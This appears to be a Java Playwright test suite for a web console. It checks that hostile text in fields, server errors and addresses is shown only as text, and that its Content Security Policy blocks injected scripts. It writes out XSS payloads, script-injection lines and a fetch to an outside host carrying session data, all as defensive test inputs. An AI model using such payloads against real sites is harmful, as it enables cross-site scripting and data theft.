package dev.baton.console.browser;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Browser;
import dev.baton.console.chromium.InChromium;
import dev.baton.console.chromium.Tab;
import dev.baton.console.scripted.ScriptedServer;
import dev.baton.console.scripted.Story;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever an id, a payload or a header holds is text, and the browser runs nothing of it. */
@InChromium
class HostileTextIT {

  private static String policy = "";

  private ScriptedServer server = new ScriptedServer(Story.ofFive(), policy);

  @BeforeAll
  static void ask() {
    policy = Policy.asServed();
  }

  @AfterAll
  static void forget() {
    policy = "";
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<img src=x onerror=\"window.broken=1\"><script>window.broken=1</script>",
        "\"'`}</title></textarea><svg onload=window.broken=1> ${window.broken=1} {{1+1}}",
        "javascript:window.broken=1//\u202egnp.\u0000\u001b[31m"
      })
  void everyFieldOfEveryScreenShowsItAsText(String mark, Browser browser) {
    Story story = Story.marked(mark);
    server.tell(story);
    try (Tab tab = Tab.open(browser).go(server.url())) {
      assertThat(tab.find("table.groups tbody th a >> nth=1"))
          .containsText("mail" + mark.substring(0, 12));
      List<String> shown =
          List.of(
              "relay/" + encoded(story.group()) + "?call=" + encoded(story.handedOver()),
              ".panel .attempts",
              "call/" + encoded(story.handedOver()),
              ".waterfall tbody tr >> nth=3",
              "calls",
              ".calls-table tbody tr >> nth=13",
              "people",
              ".questions > li >> nth=1",
              "schedules",
              "table.cards tbody tr >> nth=1",
              "new?from=" + encoded(story.handedOver()),
              "form.form textarea");
      for (int i = 0; i < shown.size(); i += 2) {
        tab.turnTo(shown.get(i));
        assertThat(tab.find(shown.get(i + 1)).first()).isVisible();
        assertIsText(tab);
      }
      tab.turnTo("call/" + encoded(story.handedOver()));
      assertThat(tab.find(".call h1")).containsText("order-7");
      tab.picture("hostile-call");
      overlays(tab, story, mark);
      tab.assertNothingToComplainOf();
    } finally {
      server.close();
    }
  }

  /** What stands over the screens, and what is only told when somebody asks. */
  private static void overlays(Tab tab, Story story, String mark) {
    dialog(tab, "Resolve…", "Resolve order-7");
    dialog(tab, "Cancel…", "Cancel order-7");
    dialog(tab, "Hand over…", "Hand order-7");
    dialog(tab, "As commands", "As commands");
    tab.button("Halt").click();
    assertThat(tab.find(".notice")).containsText("order-7");
    assertIsText(tab);
    tab.turnTo("call/" + encoded("order-8" + mark));
    assertThat(tab.find(".call")).containsText("plain");
    assertIsText(tab);

    tab.turnTo("relay/" + encoded(story.group()));
    assertThat(tab.find(".baton-label")).isVisible();
    assertThat(tab.find(".sentences li").first()).containsText("order-7");
    tab.page.keyboard().press("t");
    assertThat(tab.find("figure ~ .table-scroll tbody tr")).hasCount(5);
    assertIsText(tab);
    tab.find(".head-name").first().click();
    assertThat(tab.find("dialog[open] h2")).containsText("w-4kq2x");
    assertIsText(tab);
    tab.button("Declare dead…").click();
    assertThat(tab.find("dialog[open] h2")).containsText("Is w-4kq2x");
    tab.button("Declare dead").click();
    assertThat(tab.find(".notice")).containsText("is declared dead");
    assertIsText(tab);

    tab.turnTo("groups");
    tab.find("table.groups tbody td.actions button").first().click();
    assertThat(tab.find("dialog[open] h2")).containsText("Slots per worker of");
    assertIsText(tab);
    tab.page.keyboard().press("Escape");
    tab.find(".who summary").click();
    assertThat(tab.find(".who dl")).containsText("Baton 0.1.0");
    assertIsText(tab);

    tab.turnTo("calls");
    tab.find(".calls-table thead input").check();
    tab.find(".bar-below button.danger").click();
    assertThat(tab.find("dialog[open] h2")).hasText("Cancel 14 calls?");
    assertIsText(tab);
    tab.find("dialog button.danger").click();
    assertThat(tab.find("dialog .results li")).hasCount(14);
    assertIsText(tab);
    tab.page.keyboard().press("Escape");
    tab.turnTo("calls?prefix=" + encoded(mark));
    tab.button("Save view").click();
    tab.find("dialog [name=name]").fill(mark.replace("\u0000", "").substring(0, 30));
    tab.find("dialog button.primary").click();
    assertThat(tab.find(".views a")).hasCount(1);
    assertIsText(tab);

    tab.turnTo("schedules");
    tab.find("table.cards tbody td.actions button[aria-label^=Update]").first().click();
    assertThat(tab.find("dialog[open] h2")).containsText("Update nightly-report");
    assertThat(tab.find("dialog .next-runs li")).hasCount(5);
    assertIsText(tab);
    tab.page.keyboard().press("Escape");
    tab.find("table.cards tbody td.actions button[aria-label^=Delete]").first().click();
    assertThat(tab.find("dialog[open] h2")).containsText("Delete the schedule nightly-report");
    assertIsText(tab);
    tab.page.keyboard().press("Escape");
  }

  /** Nor is what the server says of an error, nor what stands in the address. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "<img src=x onerror=\"window.broken=1\"><script>window.broken=1</script>",
        "\"'`}</title></textarea><svg onload=window.broken=1> ${window.broken=1} {{1+1}}",
      })
  void errorsAndAddressesAreText(String mark, Browser browser) {
    List<String> screens =
        List.of(
            "relay/mail",
            "call/order-7",
            "calls",
            "people",
            "schedules",
            "new?from=order-7",
            "groups");
    try (Tab tab = Tab.open(browser).go(server.url())) {
      for (int status : new int[] {400, 403, 429, 500, 503}) {
        List.of("/live", "/calls", "/console/api")
            .forEach(path -> server.refuse(path, status, mark));
        for (String screen : screens) {
          tab.turnTo(screen);
          assertThat(tab.find(".failed .said").first()).hasText(collapsed(mark));
          assertIsText(tab);
        }
      }
      server.refuseNothing();
      for (String address :
          List.of(
              "",
              "relay/",
              "call/",
              "calls?tab=",
              "calls?state=",
              "calls?group=",
              "call/x?tree=",
              "new?from=",
              "groups?find=")) {
        tab.turnTo(address + encoded(mark));
        assertThat(tab.find("main h1").first()).isVisible();
        assertIsText(tab);
      }
      tab.complaints(); // Of what was refused.
      commandsThatAreRefused(tab, mark);
      server.refuse("/whoami", 401, mark);
      server.refuse("/live", 401, mark);
      server.hangUp();
      assertThat(tab.find(".sign-in .fault")).hasText(collapsed(mark));
      assertIsText(tab);
    } finally {
      server.close();
    }
  }

  private void commandsThatAreRefused(Tab tab, String mark) {
    tab.turnTo("call/order-7");
    assertThat(tab.find(".waterfall tbody tr").first()).isVisible();
    server.refuse("/console/api", 409, mark);
    tab.button("Halt").click();
    assertThat(tab.find(".notice")).containsText(collapsed(mark));
    assertIsText(tab);
    tab.button("Cancel…").click();
    tab.find("dialog button.danger").click();
    assertThat(tab.find("dialog .fault")).hasText(collapsed(mark));
    assertIsText(tab);
    tab.page.keyboard().press("Escape");
    tab.turnTo("calls");
    tab.find(".calls-table tbody input").first().check();
    tab.button("Halt…").click();
    tab.find("dialog button.primary").click();
    assertThat(tab.find("dialog .results small")).hasText(collapsed(mark));
    assertIsText(tab);
    tab.page.keyboard().press("Escape");
    tab.turnTo("new");
    tab.find("form.form [name=func]").fill("charge");
    tab.find("form.form button.primary").click();
    assertThat(tab.find("form.form .fault")).hasText(collapsed(mark));
    assertIsText(tab);
    server.refuseNothing();
  }

  /** As a browser shows it. */
  private static String collapsed(String text) {
    return text.replaceAll("\\s+", " ").trim();
  }

  private static void dialog(Tab tab, String button, String title) {
    tab.button(button).click();
    assertThat(tab.find("dialog[open] h2")).containsText(title);
    assertIsText(tab);
    tab.page.keyboard().press("Escape");
    assertThat(tab.find("dialog[open]")).hasCount(0);
  }

  /** Nothing of the page has become markup, run, or leads away. */
  private static void assertIsText(Tab tab) {
    assertThat(tab.page.evaluate("window.broken")).isNull();
    assertThat(
            tab.find(
                "#page img, #page script, #page iframe, #page svg[onload], #page [onerror], #page b"
                    + " b"))
        .hasCount(0);
    assertThat(
            tab.page.evaluate(
                "[...document.querySelectorAll('#page a')].every(a =>"
                    + " a.getAttribute('href').startsWith('#'))"))
        .isEqualTo(true);
  }

  @Test
  void aPageThatTriesToBreakThePolicyCannot(Browser browser) {
    try (Tab tab = Tab.open(browser).go(server.url())) {
      assertThat(tab.find("table.groups")).isVisible();
      // As if somebody had found a way to run a line in the page.
      List<String> tries =
          List.of(
              "document.body.innerHTML = '<img src=x onerror=window.broken=1>'",
              "document.write('<script>window.broken=1</script>')",
              "eval('window.broken=1')",
              "new Function('window.broken=1')()",
              "setTimeout('window.broken=1', 0)",
              "trustedTypes.createPolicy('mine', {createHTML: s => s})",
              "document.createElement('script').text = 'window.broken=1'",
              "document.createElement('script').src = 'data:text/javascript,window.broken=1'");
      for (String line : tries) {
        assertThat(
                tab.page.evaluate(
                    // Later: while the debugger evaluates, it is above the policy.
                    "new Promise(done => setTimeout(() => {"
                        + " try { %s; done('done'); } catch (e) { done(e.name); } }))"
                            .formatted(line)))
            .as(line)
            .isIn("TypeError", "EvalError");
      }
      assertThat(
              tab.page.evaluate(
                  "fetch('https://example.org/?' + sessionStorage.length).then(() => 'sent', e =>"
                      + " e.name)"))
          .isEqualTo("TypeError");
      assertThat(
              tab.page.evaluate(
                  "new Promise(done => { addEventListener('securitypolicyviolation', e =>"
                      + " done(e.effectiveDirective)); const i = new Image(); i.src ="
                      + " 'https://example.org/x.png'; })"))
          .isEqualTo("img-src");
      assertThat(
              tab.page.evaluate(
                  "new Promise(done => { addEventListener('securitypolicyviolation', e =>"
                      + " done(e.effectiveDirective)); const f = document.createElement('form');"
                      + " f.action = 'https://example.org/'; document.body.append(f); f.submit();"
                      + " })"))
          .isEqualTo("form-action");
      assertThat(tab.page.evaluate("window.broken")).isNull();
      assertThat(tab.complaints()).isNotEmpty();
    } finally {
      server.close();
    }
  }

  private static String encoded(String text) {
    return java.net.URLEncoder.encode(text, java.nio.charset.StandardCharsets.UTF_8)
        .replace("+", "%20");
  }
}
